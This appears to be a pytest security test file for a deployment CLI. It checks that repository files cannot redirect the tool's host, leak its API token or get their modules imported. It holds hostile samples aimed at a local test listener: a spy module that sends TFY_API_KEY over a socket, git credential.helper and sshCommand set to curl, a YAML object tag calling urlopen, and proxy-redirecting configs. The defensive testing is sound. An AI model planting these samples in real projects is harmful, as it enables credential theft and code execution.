"""Files of a repository that would like to choose the host, or to be run: none does, and none is asked."""

from __future__ import annotations

import json
import sys
from collections.abc import Iterator, Sequence
from pathlib import Path

import pytest

from tests.support import canary
from tests.support.attacker import Attacker, accept
from tests.support.cli import TOKEN, Cli, run_program
from tests.support.fault_answers import control_plane
from tests.support.fault_runs import MANIFEST
from tests.support.git_repository import GitRepository
from tests.support.raw_server import RawServer

APPLY = ("apply", "--yes", "--ref", "HEAD")
EVERYTHING = (("validate",), ("plan",), ("plan", "--ref", "HEAD"), APPLY)


@pytest.fixture
def attacker() -> Iterator[Attacker]:
    with Attacker() as listening:
        yield listening


def run(
    commands: Sequence[Sequence[str]], repository: GitRepository, attacker: Attacker, **env: str
) -> list[int]:
    """Run commands in the repository, against the true control plane; their exit codes."""
    with RawServer(control_plane(put=accept)) as server:
        cli = Cli(repository.folder, server.url, env=env)
        codes = [cli.run(*arguments).code for arguments in commands]
        canary.assert_absent(*(request.body for request in server.requests))
    attacker.assert_left_alone()
    return codes


def aimed(text: str, attacker: Attacker) -> str:
    """A file that names the attacker wherever its text says so."""
    return text.replace("LISTENER", f"http://{attacker.address}").replace("ADDRESS", attacker.address)


HOSTS = "".join(
    f'{key} = "LISTENER"\n'
    for key in (
        "host", "url", "base_url", "endpoint", "tfy_host", "TFY_HOST", "control_plane", "proxy",
        "https_proxy", "HTTPS_PROXY", "api_key", "token", "TFY_API_KEY", "credentials", "ca_file", "verify",
    )
)  # fmt: skip
LINES = "".join(
    f"{prefix}{key}=LISTENER\n"
    for prefix in ("", "export ")
    for key in (
        "TFY_HOST",
        "HTTP_PROXY",
        "HTTPS_PROXY",
        "ALL_PROXY",
        "http_proxy",
        "all_proxy",
        "TFY_API_KEY",
    )
)
CONFIGURATION = {
    "reconciler.toml": HOSTS,
    "pyproject.toml": "[tool.reconciler]\n" + HOSTS + "[tool.truefoundry]\n" + HOSTS,
    "setup.cfg": "[reconciler]\nhost = LISTENER\n",
    "tox.ini": "[reconciler]\nhost = LISTENER\n",
    ".reconciler.toml": HOSTS,
    ".reconciler/config.toml": HOSTS,
    ".config/reconciler.toml": HOSTS,
    ".env": LINES,
    ".envrc": LINES,
    ".env.local": LINES,
    ".netrc": "machine 127.0.0.1 login user password secret\ndefault login user password secret\n",
    "_netrc": "machine 127.0.0.1 login user password secret\ndefault login user password secret\n",
    ".truefoundry/credentials.json": '{"host": "LISTENER", "access_token": "theirs", "refresh_token": "x"}',
    ".truefoundry/config.yaml": "host: LISTENER\n",
    ".tfy/config.yaml": "host: LISTENER\n",
    "truefoundry.yaml": "type: service\nhost: LISTENER\ntfy_host: LISTENER\n",
    "truefoundry.json": '{"type": "service", "host": "LISTENER"}',
    "tfy.yaml": "type: service\nhost: LISTENER\n",
    "reconciler.yaml": "type: reconciler\nhost: LISTENER\ntoken: x\n",
    ".curlrc": 'proxy = "LISTENER"\n',
    ".wgetrc": "http_proxy = LISTENER\n",
    ".pypirc": "[distutils]\nindex-servers = LISTENER\n",
    "pip.conf": "[global]\nproxy = LISTENER\n",
    ".gitconfig": "[http]\n\tproxy = LISTENER\n",
    ".gitmodules": '[submodule "x"]\n\tpath = x\n\turl = LISTENER/x.git\n',
    ".lfsconfig": "[lfs]\n\turl = LISTENER\n",
    "proxy.pac": 'function FindProxyForURL(url, host) { return "PROXY ADDRESS"; }\n',
    "openssl.cnf": "openssl_conf = x\n",
}


@pytest.mark.parametrize("file", CONFIGURATION)
def test_no_file_of_the_repository_chooses_where_to_connect(
    file: str, attacker: Attacker, repository: GitRepository
) -> None:
    repository.write(file, aimed(CONFIGURATION[file], attacker))
    repository.commit("configuration")
    # The settings file is read, and refused for what it does not know; no other file is looked at.
    assert run([APPLY], repository, attacker) == [1 if file == "reconciler.toml" else 0]


@pytest.fixture
def configured(attacker: Attacker, repository: GitRepository) -> GitRepository:
    """A repository with every file but the one that is read."""
    for file in CONFIGURATION.keys() - {"reconciler.toml"}:
        repository.write(file, aimed(CONFIGURATION[file], attacker))
    repository.commit("configuration")
    return repository


def test_all_files_together_choose_nothing_for_any_command(
    attacker: Attacker, configured: GitRepository
) -> None:
    assert run(EVERYTHING, configured, attacker) == [0, 0, 0, 0]


def test_no_file_of_the_repository_stands_in_for_what_is_missing(
    attacker: Attacker, configured: GitRepository
) -> None:
    """Without a host, or without a token, there is none, though every file here would give one."""
    ended = Cli(configured.folder, env={"TFY_API_KEY": TOKEN})("plan", expect=1)
    assert "TFY_API_KEY is set, but no host is" in ended.err
    ended = Cli(configured.folder)("plan", expect=1)
    assert "no control plane is set" in ended.err
    ended = Cli(configured.folder, env={"TFY_HOST": "https://example.com"})("plan", expect=1)
    assert "no token for" in ended.err
    attacker.assert_left_alone()


def test_a_host_that_is_expected_is_not_the_host_that_is_asked(
    attacker: Attacker, repository: GitRepository
) -> None:
    repository.write("reconciler.toml", f'expect_host = "http://{attacker.address}"\n')
    repository.commit("narrower")
    assert run(EVERYTHING, repository, attacker) == [0, 1, 1, 1]


def test_git_s_own_configuration_chooses_nothing_either(
    attacker: Attacker, repository: GitRepository
) -> None:
    url = f"http://{attacker.address}"
    repository.configure("http.proxy", url)
    repository.configure(f"url.{url}/.insteadOf", "http://127.0.0.1")
    repository.configure("remote.origin.url", f"{url}/x.git")
    repository.configure("credential.helper", f"!curl {url}")
    repository.configure("core.sshCommand", f"curl {url}")
    assert run(EVERYTHING, repository, attacker) == [0, 0, 0, 0]


SECOND = MANIFEST.format(name="scorer", version=2)
MANIFESTS = {
    "source.uri": SECOND.replace("s3://example", "LISTENER"),
    "a source below the listener": SECOND.replace("s3://example", "s3://ADDRESS"),
    "a container at the listener": SECOND.replace("s3://example", "wasbs://c@ADDRESS"),
    "$schema": f"$schema: LISTENER/schema.json\n{SECOND}",
    "a schema in a comment": f"# yaml-language-server: $schema=LISTENER/schema.json\n{SECOND}",
    "$ref": '{"$ref": "LISTENER/manifest.json"}',
    "a tag": f"!<LISTENER/tag> {SECOND}",
    "a tag that makes objects": "!!python/object/apply:urllib.request.urlopen ['LISTENER']",
    "an include": "!include LISTENER/manifest.yaml",
    "metadata": SECOND.replace("metadata: {}", "metadata: {u: 'LISTENER'}"),
    "a variable": SECOND.replace("s3://example", "s3://$TFY_API_KEY"),
    "a variable in braces": SECOND.replace("s3://example", "s3://${TFY_API_KEY}"),
}


@pytest.mark.parametrize("name", MANIFESTS)
def test_no_manifest_has_anything_fetched_or_the_environment_read(
    name: str, attacker: Attacker, repository: GitRepository
) -> None:
    text = aimed(MANIFESTS[name], attacker)
    repository.write("hostile.json" if text.startswith("{") else "hostile.yaml", text)
    repository.commit("a manifest")
    (code,) = run([APPLY], repository, attacker)
    assert code in {0, 1}, "it is registered as it stands, or refused"


SPY = """
import os, socket, sys
open(os.environ["HOME"] + "/ran", "a").write(__name__)
socket.create_connection({listener!r}).sendall(os.environ.get("TFY_API_KEY", "").encode())
"""
MODULES = (
    "sitecustomize", "usercustomize", "click", "httpx", "yaml", "git", "pydantic", "jsonpatch", "httpcore",
    "certifi", "idna", "anyio", "sniffio", "h11", "json", "re", "os", "io", "ssl", "typing", "functools",
    "asyncio", "pkgutil", "runpy", "reconciler", "encodings", "warnings", "traceback", "gettext", "_socket",
)  # fmt: skip


@pytest.fixture
def with_modules(attacker: Attacker, repository: GitRepository) -> GitRepository:
    """A repository with a file for every module that is imported."""
    spy = SPY.format(listener=("127.0.0.1", attacker.port))
    for name in MODULES:
        repository.write(f"{name}.py", spy)
    repository.write("reconciler/__init__.py", spy)
    repository.write("reconciler/__main__.py", spy)
    repository.write("reconciler/cli/__init__.py", spy)
    repository.write("spy.pth", "import click\n")
    repository.write("pyvenv.cfg", "home = .\n")
    repository.commit("modules")
    return repository


def test_no_module_of_the_repository_is_imported(
    attacker: Attacker, with_modules: GitRepository, tmp_path: Path
) -> None:
    """Run the command as people do who have installed it."""
    script = Path(sys.executable).with_name("reconciler")
    with RawServer(control_plane(put=accept)) as server:
        environment = Cli(with_modules.folder, server.url, env={"HOME": str(tmp_path)}).environment()
        for arguments in EVERYTHING:
            assert run_program([str(script), *arguments], with_modules.folder, environment).code == 0
    attacker.assert_left_alone()
    assert not (tmp_path / "ran").exists()


def test_no_module_of_the_repository_is_imported_by_the_module_with_a_safe_path(
    attacker: Attacker, with_modules: GitRepository, tmp_path: Path
) -> None:
    cli = Cli(with_modules.folder, env={"HOME": str(tmp_path)})
    assert "-P" in cli.command()
    ended = cli.start("validate")
    assert (ended.code, "1 valid manifest" in ended.err) == (0, True)
    attacker.assert_left_alone()
    assert not (tmp_path / "ran").exists()


def test_the_saved_token_goes_to_the_host_that_it_was_saved_for_only(
    attacker: Attacker, repository: GitRepository, tmp_path: Path
) -> None:
    saved = {"host": f"http://{attacker.address}", "access_token": TOKEN}
    file = tmp_path / "home" / ".truefoundry" / "credentials.json"
    file.parent.mkdir(parents=True)
    file.write_text(json.dumps(saved))
    home = file.parents[1]
    with RawServer(control_plane()) as server:
        Cli(repository.folder, home=home)("plan", "--host", server.url)
        assert not any("authorization" in request.headers for request in server.requests)
        server.requests.clear()
        Cli(repository.folder, server.url, home=home)("plan")
        assert {request.headers["authorization"] for request in server.requests} == {f"Bearer {TOKEN}"}
    attacker.assert_left_alone()
